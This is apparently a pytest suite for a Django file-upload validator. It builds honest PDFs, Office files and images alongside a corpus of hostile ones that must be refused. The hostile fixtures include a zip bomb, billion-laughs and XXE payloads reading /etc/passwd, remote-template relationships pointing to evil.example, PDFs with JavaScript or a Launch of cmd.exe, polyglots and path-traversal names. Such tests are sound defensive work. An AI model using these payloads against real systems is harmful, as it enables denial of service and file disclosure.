"""A corpus of honest and hostile files."""

import io
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from common.errors import DomainError
from common.sandbox import Overrun
from common.uploads import TYPES, check_upload, clean_name, private_file_response

PDF = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n"
    b"xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000056 00000 n \n"
    b"0000000107 00000 n \ntrailer<</Root 1 0 R/Size 4>>\nstartxref\n168\n%%EOF\n"
)


def upload(name, content):
    return SimpleUploadedFile(name, content)


def office(ending=".docx", extra=None, types=None):
    main = {
        ".docx": "word/document.xml",
        ".xlsx": "xl/workbook.xml",
        ".pptx": "ppt/presentation.xml",
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", types or f'<Override ContentType="{TYPES[ending]}.main+xml"/>'
        )
        archive.writestr(main[ending], "<document/>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def picture(form="JPEG", size=(40, 20), **options):
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, form, **options)
    return out.getvalue()


def png_claiming(width, height):
    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def bomb():
    out = io.BytesIO()
    out.write(office(extra={"word/media/zeros.bin": b"\0" * (60 * 1024 * 1024)}))
    return out.getvalue()


def overlapping():
    """One packed part, listed many times under many names."""
    plain = office()
    end = plain.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", plain[end + 16 : end + 20])[0]
    directory = plain[start:end]
    many = directory + directory.replace(b"word/document.xml", b"word/documenu.xml") * 200
    count = 2 + 400
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(many), start, 0)
    return plain[:start] + many + tail


HONEST = {
    "report.pdf": PDF,
    "essay.docx": office(".docx"),
    "figures.xlsx": office(".xlsx"),
    "slides.PPTX": office(".pptx"),
    "photo.jpg": picture(),
    "chart.png": picture("PNG"),
}


def pdf_with(act):
    """A page of PDF with something more."""
    with pikepdf.new() as made:
        made.add_blank_page()
        act(made)
        out = io.BytesIO()
        made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def runs(pdf, kind="JavaScript", **keys):
    action = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **keys)
    pdf.Root.OpenAction = pdf.make_indirect(action)


def carries(pdf):
    pdf.attachments["payload.exe"] = b"MZ"


def pinned(pdf):
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9]
    )
    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(note)])


def locked():
    with pikepdf.new() as made:
        made.add_blank_page()
        out = io.BytesIO()
        made.save(out, encryption=pikepdf.Encryption(owner="secret", user="secret"))
    return out.getvalue()


def named_apart(word):
    """The same name written with an escape, as those do who hide it."""
    return PDF.replace(
        b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/%s/JS(app.alert(1))>>" % word
    )


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%s;" % (b"" if n == 1 else b"%d" % (n - 1)) * 10)
        for n in range(1, 10)
    )
    + b"]><w:document>&lol9;</w:document>"
)
OUTSIDE = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
ELSEWHERE = (
    '<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/%s" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)


def nested():
    """A document that carries a sheet that is a bomb."""
    sheet = office(".xlsx", extra={"xl/media/zeros.bin": b"\0" * (30 * 1024 * 1024)})
    return office(extra={"word/embeddings/sheet.xlsx": sheet})


def zipped(content):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.class", content)
    return out.getvalue()


HOSTILE = {
    "empty": ("a.pdf", b""),
    "program": ("a.exe", b"MZ"),
    "no ending": ("report", PDF),
    "two endings": ("a.pdf.html", PDF),
    "html as pdf": ("a.pdf", b"<script>alert(1)</script>"),
    "pdf without an end": ("a.pdf", b"%PDF-1.7\n" + b"x" * 5000),
    "junk before the pdf": ("a.pdf", b"<html>" + PDF),
    "pdf that is a zip too": ("a.pdf", PDF + office()),
    "png as jpeg": ("a.jpg", picture("PNG")),
    "svg as png": ("a.png", b"<svg onload=alert(1)>"),
    "truncated picture": ("a.jpg", picture(size=(400, 400))[:300]),
    "picture of a billion pixels": ("a.png", png_claiming(40_000, 40_000)),
    "picture beyond the limit": ("a.png", png_claiming(8_000, 6_000)),
    "xlsx as docx": ("a.docx", office(".xlsx")),
    "docx of wrong inner type": ("a.docx", office(types="<Types/>")),
    "plain zip as docx": ("a.docx", b"PK\x03\x04" + b"\0" * 60),
    "zip bomb": ("a.docx", bomb()),
    "overlapping parts": ("a.docx", overlapping()),
    "macros": ("a.docx", office(extra={"word/vbaProject.bin": b"x"})),
    "path that climbs": ("a.docx", office(extra={"../../evil": b"x"})),
    "something before the zip": ("a.docx", b"#!/bin/sh\n" + office()),
    "something after the zip": ("a.docx", office() + b"<html>"),
    "macros under another name": (
        "a.docx",
        office(types='ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'),
    ),
    "a bomb in a document": ("a.docx", nested()),
    "an archive in a document": ("a.docx", office(extra={"word/embeddings/a.zip": zipped(b"x")})),
    "a program in a document": ("a.docx", office(extra={"word/embeddings/a.exe": b"MZ"})),
    "a control in a document": ("a.docx", office(extra={"word/activeX/activeX1.bin": b"x"})),
    "a billion laughs": ("a.docx", office(extra={"word/styles.xml": LAUGHS})),
    "entities from outside": ("a.docx", office(extra={"customXml/item1.xml": OUTSIDE})),
    "entities in UTF-16": (
        "a.docx",
        office(extra={"word/styles.xml": OUTSIDE.decode().encode("utf-16")}),
    ),
    "a document type after a long comment": (
        "a.docx",
        office(extra={"word/styles.xml": b"<!--" + b"x" * 70_000 + b"-->" + OUTSIDE}),
    ),
    "entities among relations": ("a.docx", office(extra={"word/_rels/a.rels": OUTSIDE})),
    "a template from the network": (
        "a.docx",
        office(extra={"word/_rels/settings.xml.rels": ELSEWHERE % "attachedTemplate"}),
    ),
    "an object from the network": (
        "a.docx",
        office(extra={"word/_rels/document.xml.rels": ELSEWHERE % "oleObject"}),
    ),
    "pdf with a jar behind": ("a.pdf", PDF + zipped(b"\xca\xfe\xba\xbe") + b"%%EOF\nstartxref"),
    "pdf that runs a script": ("a.pdf", pdf_with(lambda pdf: runs(pdf, JS="app.alert(1)"))),
    "pdf that hides the word": ("a.pdf", named_apart(b"J#61vaScript")),
    "pdf that starts a program": ("a.pdf", pdf_with(lambda pdf: runs(pdf, "Launch", F="cmd.exe"))),
    "pdf that carries a file": ("a.pdf", pdf_with(carries)),
    "pdf with a file pinned to a page": ("a.pdf", pdf_with(pinned)),
    "pdf under a password": ("a.pdf", locked()),
    "pdf without pages": ("a.pdf", PDF.replace(b"[3 0 R]/Count 1", b"[]/Count 0")),
    "picture with a page behind its head": ("a.png", b"\x89PNG\r\n\x1a\n<html><script>1</script>"),
    "gif as png": ("a.png", picture("GIF") + zipped(b"x")),
    "empty picture": ("a.png", b""),
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_are_taken(name):
    checked = check_upload(upload(name, HONEST[name]))

    assert checked.content_type == TYPES["." + name.rsplit(".", 1)[1].lower()]
    assert checked.size == len(checked.content) > 0


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_refused_quickly_and_in_words(case):
    name, content = HOSTILE[case]
    began = time.monotonic()

    with pytest.raises(DomainError) as refusal:
        check_upload(upload(name, content))

    assert time.monotonic() - began < 2
    assert refusal.value.field == "file"
    assert f"“{clean_name(name)}”" in str(refusal.value)


def test_a_link_and_a_word_about_scripts_are_no_scripts():
    def write(pdf):
        pdf.docinfo["/Title"] = "How (we) use /JavaScript and /Launch"

    linked = ELSEWHERE % "hyperlink"

    assert check_upload(upload("a.pdf", pdf_with(write))).size > 0
    document = office(extra={"word/_rels/document.xml.rels": linked})
    assert check_upload(upload("a.docx", document)).size > 0


@pytest.mark.parametrize(
    ("case", "words"),
    [
        ("pdf under a password", "is locked with a password"),
        ("pdf that runs a script", "runs a program when it is read"),
        ("pdf that carries a file", "carries other files inside"),
        ("a template from the network", "loads something from the network"),
        ("macros", "holds macros"),
        ("zip bomb", "would unpack to an unreasonable size"),
    ],
)
def test_what_can_be_mended_is_said(case, words):
    with pytest.raises(DomainError) as refusal:
        check_upload(upload(*HOSTILE[case]))

    assert words in str(refusal.value)


def test_a_place_may_take_some_types_only():
    with pytest.raises(DomainError) as refusal:
        check_upload(upload("chart.png", picture("PNG")), endings=(".docx", ".pdf"))

    assert str(refusal.value) == "“chart.png” is of a type that is not taken here. Send DOCX, PDF."


def test_a_file_beyond_the_limit_is_refused_before_it_is_read():
    with pytest.raises(DomainError) as refusal:
        check_upload(upload("a.pdf", PDF + b" " * 2_000_000), max_bytes=1024 * 1024)

    assert str(refusal.value) == "“a.pdf” is larger than 1 MB."


def test_where_and_with_what_a_picture_was_taken_is_gone():
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif[0x0112] = 6  # turned by a quarter
    source = picture(exif=exif, comment=b"SecretComment")
    assert b"SecretCamera" in source
    assert b"SecretComment" in source

    checked = check_upload(upload("a.jpg", source))

    assert b"Secret" not in checked.content
    with Image.open(io.BytesIO(checked.content)) as image:
        assert not image.getexif()
        assert image.size == (20, 40)


def test_what_is_glued_behind_a_picture_is_gone():
    checked = check_upload(upload("a.png", picture("PNG") + b"<script>alert(1)</script>"))

    assert b"<script>" not in checked.content


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("..\\..\\boot.pdf", "boot.pdf"),
        ("/etc/passwd.pdf", "passwd.pdf"),
        ("a\u202efdp.exe.pdf", "afdp.exe.pdf"),
        ("  many   spaces .PDF", "many spaces.pdf"),
        ("отчёт за год.pdf", "отчёт за год.pdf"),
        (".pdf", "pdf"),
        ('a"b<c>.pdf', "abc.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_names_are_made_safe(given, kept):
    assert clean_name(given) == kept


def test_a_private_file_is_never_shown_in_the_browser(tmp_path):
    class Stored:
        def open(self, mode):
            return (tmp_path / "a").open(mode)

    (tmp_path / "a").write_bytes(PDF)

    response = private_file_response(Stored(), "отчёт.pdf", "application/pdf")

    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    response.file_to_stream.close()


def test_a_pdf_that_overruns_its_process_is_refused_in_words(monkeypatch):
    monkeypatch.setattr("common.uploads.run_apart", overrun)

    with pytest.raises(DomainError) as refusal:
        check_upload(upload("a.pdf", PDF))

    assert "takes too long to check" in str(refusal.value)


def overrun(*arguments, **limits):
    raise Overrun
